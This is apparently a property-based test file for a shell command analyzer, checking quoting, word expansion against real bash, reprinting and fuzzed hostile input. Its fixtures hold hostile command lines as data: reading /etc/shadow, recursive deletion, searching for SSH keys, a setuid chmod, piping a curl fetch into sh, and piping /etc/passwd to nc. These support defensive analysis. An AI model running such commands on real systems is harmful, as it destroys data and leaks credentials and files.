import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { type Command, parse } from "unbash";
import { print } from "unbash/printer";
import { beforeAll, describe, expect, test } from "vitest";
import { NOTHING } from "../../../../src/canonicalize/analyzers/analysis.ts";
import { Collector } from "../../../../src/canonicalize/analyzers/collector.ts";
import { loadAnalyzers } from "../../../../src/canonicalize/analyzers/load.ts";
import { newRun } from "../../../../src/canonicalize/analyzers/shell/analyze.ts";
import { expandWord } from "../../../../src/canonicalize/analyzers/shell/expand.ts";
import { isKnown } from "../../../../src/canonicalize/analyzers/shell/value.ts";
import { analyzed } from "../../../support/shell-lines.ts";

beforeAll(loadAnalyzers);

/** Words that mean the same in and out of quotes. */
const COMMANDS: readonly (readonly string[])[] = [
  ["cat", "/etc/shadow"],
  ["rm", "-rf", "/home/bob"],
  ["curl", "-T", "report.txt", "https://example.com/upload"],
  ["chmod", "4755", "/tmp/x"],
  ["find", "/", "-name", "id_rsa"],
  ["scp", "a", "bob@example.com:/tmp/"],
  ["git", "push", "origin", "main"],
  ["crontab", "jobs"],
];

/** One word, each letter of it quoted in one of the ways that bash has. */
function quoted(word: string): fc.Arbitrary<string> {
  const ways = [...word].map((char) =>
    fc.constantFrom(
      char,
      `'${char}'`,
      `"${char}"`,
      /[a-zA-Z0-9]/.test(char) ? char : `\\${char}`,
      `$'\\x${char.charCodeAt(0).toString(16)}'`,
      `''${char}`,
    ),
  );
  return fc.tuple(...ways).map((letters) => letters.join(""));
}

test("quotes do not change what a command does", () => {
  const lines = fc
    .constantFrom(...COMMANDS)
    .chain((words) => fc.tuple(fc.constant(words), fc.tuple(...words.map(quoted))));
  fc.assert(
    fc.property(lines, ([words, spelled]) => {
      expect(analyzed(spelled.join(" "))).toEqual(analyzed(words.join(" ")));
    }),
    { numRuns: 500 },
  );
});

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: shell, not templates
const PIECES = [
  "a", "b c", "*", "?", "$", "\\", "'", '"', "$'", "\\n", "\\x41", "\\101", "{a,b}", "{1..3}", "$HOME", "${HOME}", "$((1+1))", "~",
  "$x", "${x}", "${y:-z}", "\\\n", "=", "-", "/", "é", "$(echo q)", "`echo q`", "\\u00e9", "[a]", "#",
]; // biome-ignore format: one list
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: shell, not templates

/** What bash makes of each line of words: NUL-separated fields, or nothing where it refuses the line. */
function byBash(lines: readonly string[]): readonly (readonly string[] | undefined)[] {
  const empty = mkdtempSync(join(tmpdir(), "writ-words-"));
  try {
    return lines.map((line) => {
      try {
        const out = execFileSync("bash", ["-fc", `set -f; x='v w'; printf '%s\\0' . ${line}`], {
          cwd: empty,
          env: { HOME: "/home/alice", PATH: process.env["PATH"] },
          stdio: ["ignore", "pipe", "ignore"],
          timeout: 5000,
        });
        return out.toString("utf8").split("\0").slice(1, -1);
      } catch {
        return undefined;
      }
    });
  } finally {
    rmSync(empty, { recursive: true, force: true });
  }
}

/** What the analyzer makes of it; undefined where it says that it does not know. */
function byAnalyzer(line: string): readonly string[] | undefined {
  const script = parse(`x='v w'; printf '%s\\0' ${line}`);
  if ((script.errors ?? []).length > 0 || script.commands.length !== 2) return undefined;
  const node = script.commands[1]?.command as Command;
  if (node.type !== "Command" || node.redirects.length > 0) return undefined;
  const surroundings = { home: "/home/alice", cwd: "/repo", workspace: [] };
  const collector = new Collector("");
  const run = newRun({ at: "", surroundings, nested: () => NOTHING }, collector);
  run.frame.variables.set("x", [{ text: "v w" }]);
  const values = node.args
    .slice(1)
    .flatMap((word) => (word.type === "Word" ? expandWord(word, run) : [{ text: "", unknown: "computed" as const }]));
  const known = values.every((value) => isKnown(value)) && collector.finish().parse === "complete";
  return known ? values.map(({ text }) => text) : undefined;
}

test("words that are known are the words that bash makes", { timeout: 120_000 }, () => {
  const words = fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 6 }).map((pieces) => pieces.join(""));
  const lines = fc.sample(words, { numRuns: 600, seed: 20_261_121 });
  const expected = byBash(lines);
  const compared = lines.flatMap((line, index) => {
    const mine = byAnalyzer(line);
    const bash = expected[index];
    return mine === undefined || bash === undefined ? [] : [{ line, mine, bash }];
  });
  expect(compared.length).toBeGreaterThan(100);
  for (const { line, mine, bash } of compared) expect({ line, words: mine }).toEqual({ line, words: bash });
});

const LINES = [
  "cat a | sort -u > b",
  "if [ -f x ]; then rm x; else touch x; fi",
  "for f in a b; do cp $f /tmp/; done",
  "f() { curl -s https://example.com/$1; }; f a | sh",
  "while read -r l; do echo $l; done < list",
  "case $x in a) rm a;; *) rm b;; esac",
  "(cd /etc && cat passwd) | nc example.com 99",
  "find . -name '*.ts' -exec grep -l foo {} + | xargs rm",
  'X=1 Y="$(date)" env Z=2 make -j4',
];

test.each(LINES)("printed again from its tree, a line does the same: %s", (line) => {
  expect(analyzed(print(parse(line)))).toEqual(analyzed(line));
});

describe("hostile text", () => {
  const alphabet = [
    ..."abc/ '\"$`\\(){}[]|&;<>*?~#=!\n\t-",
    "$(",
    "<<",
    "EOF",
    "do",
    "done",
    "if",
    "fi",
    "sh -c ",
    "\uE000",
    "\u202e",
  ];
  test("never throws, and says something", () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...alphabet), { maxLength: 200 }), (pieces) => {
        expect(["complete", "partial", "limit"]).toContain(analyzed(pieces.join("")).parse);
      }),
      { numRuns: 2000 },
    );
  });
});
